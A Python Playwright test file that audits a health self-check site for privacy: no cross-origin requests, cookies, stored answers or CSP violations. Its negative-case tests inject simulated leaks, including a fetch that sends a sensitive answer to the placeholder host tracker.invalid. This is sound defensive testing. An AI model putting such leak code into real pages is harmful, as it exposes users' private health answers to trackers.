"""Privacy in Chromium, over every page of the default site and the example clinic, served with the
headers they ship: no request to another origin, no cookie, nothing stored but the theme's display
preferences, no Python runtime on an article; no Content-Security-Policy violation on the way. Each
check has a negative case."""

import json
from urllib.parse import urlsplit

from devkit.browser import wait_for_engine

from .helpers import RequestLog, in_page_js, storage_snapshot, wait_for_requests_to_end

# What Material itself may keep in the browser: display preferences, never an answer.
# (Material prefixes its keys with the site's path; the names below are its own.)
THEME_KEYS = ("__palette", "__consent", "__tabs", "__search", "__expand")
RECORD_VIOLATIONS = in_page_js("record-csp-violations")


def origin(url):
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


SELF_CHECK_PAGES = ("/self-check/", "/embed/self-check/", "/es/self-check/", "/es/embed/self-check/")


def audit_page(page, log, origin_url: str, path: str, start: int) -> list[str]:
    """What is wrong with one loaded page: other origins, CSP violations, stored data, runtime on articles."""
    problems = []
    others = [u for u in log.urls(start) if origin(u) != origin_url]
    violations = page.evaluate("window.__cspViolations || []")
    stored = storage_snapshot(page)
    theme_only = all(any(k.endswith(name) for name in THEME_KEYS) for k in [*stored["local"], *stored["session"]])
    if others:
        problems.append(f"{path}: requests to other origins: {others}")
    if violations:
        problems.append(f"{path}: CSP violations: {violations}")
    if not theme_only or stored["indexedDB"]:
        problems.append(f"{path}: stored something other than the theme's display preferences: {stored}")
    if path not in SELF_CHECK_PAGES and any("/pyodide/" in u for u in log.urls(start)):
        problems.append(f"{path}: an article page loaded the Python runtime")
    return problems


def test_every_page_is_private_and_keeps_to_its_content_security_policy(page, context, audited):
    csp_server = audited.server
    page.add_init_script(RECORD_VIOLATIONS)
    log = RequestLog().attach(context)
    problems = []
    paths = audited.paths
    assert len(paths) >= 6
    for path in paths:
        start = len(log.entries)
        response = page.goto(csp_server.origin + path, wait_until="load")
        assert response.headers.get("content-security-policy"), "the header is sent"
        if path in SELF_CHECK_PAGES:
            # The worker fetches the runtime and the engine, and nothing after it is ready.
            wait_for_engine(page)
        # Rather than waiting for the network to stay quiet for 500 ms after each page (Playwright's
        # "networkidle"), wait for what the page actually fetches to end: see wait_for_requests_to_end.
        wait_for_requests_to_end(page, log, start)
        problems += audit_page(page, log, csp_server.origin, path, start)
    assert context.cookies() == []
    assert not problems, "\n".join(problems)


def test_the_privacy_audit_catches_a_leak(browser, site_server):
    """Negative case: a request to another origin, an answer in storage and a cookie are all caught."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    log = RequestLog().attach(context)
    page.route("https://tracker.invalid/**", lambda route: route.fulfill(status=204, body=""))
    page.goto(site_server.origin + "/risks-and-side-effects/")
    page.evaluate("""() => {
        localStorage.setItem("answers", JSON.stringify({danger_now: "yes"}));
        document.cookie = "seen=1; path=/";
        return fetch("https://tracker.invalid/collect?q=danger_now", {mode: "no-cors"});
    }""")
    problems = audit_page(page, log, site_server.origin, "/risks-and-side-effects/", 0)
    assert any("tracker.invalid" in p for p in problems)
    assert any("stored something" in p and "danger_now" in p for p in problems)
    assert context.cookies() != []
    context.close()


def test_the_privacy_audit_waits_for_what_a_page_fetches_once_loaded(browser, site_server):
    """Negative case: a request to another origin that a page starts only after its load event (from a
    task its load handler queues) is waited for, and caught. (The pages' own policy would block it:
    bypass_csp lets it go out, as the leak test does.)"""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    log = RequestLog().attach(context)
    context.route("https://tracker.invalid/**", lambda route: route.fulfill(status=204, body=""))
    page.add_init_script("""addEventListener("load", () => setTimeout(() =>
        fetch("https://tracker.invalid/after-load", {mode: "no-cors"}), 0));""")
    page.goto(site_server.origin + "/risks-and-side-effects/", wait_until="load")
    wait_for_requests_to_end(page, log, 0)
    problems = audit_page(page, log, site_server.origin, "/risks-and-side-effects/", 0)
    assert any("tracker.invalid/after-load" in p for p in problems), problems
    context.close()


def test_stored_keys_are_recognised_as_display_preferences_only(page, site_server):
    """Toggling the palette stores Material's preference, which holds no answer."""
    page.goto(site_server.origin + "/self-check/")
    page.click("label[for='__palette_1'], [data-md-component=palette] label >> nth=0")
    stored = storage_snapshot(page)
    assert stored["local"], "the palette choice is stored by the theme"
    assert all(any(k.endswith(name) for name in THEME_KEYS) for k in stored["local"])
    assert "danger_now" not in json.dumps(stored)
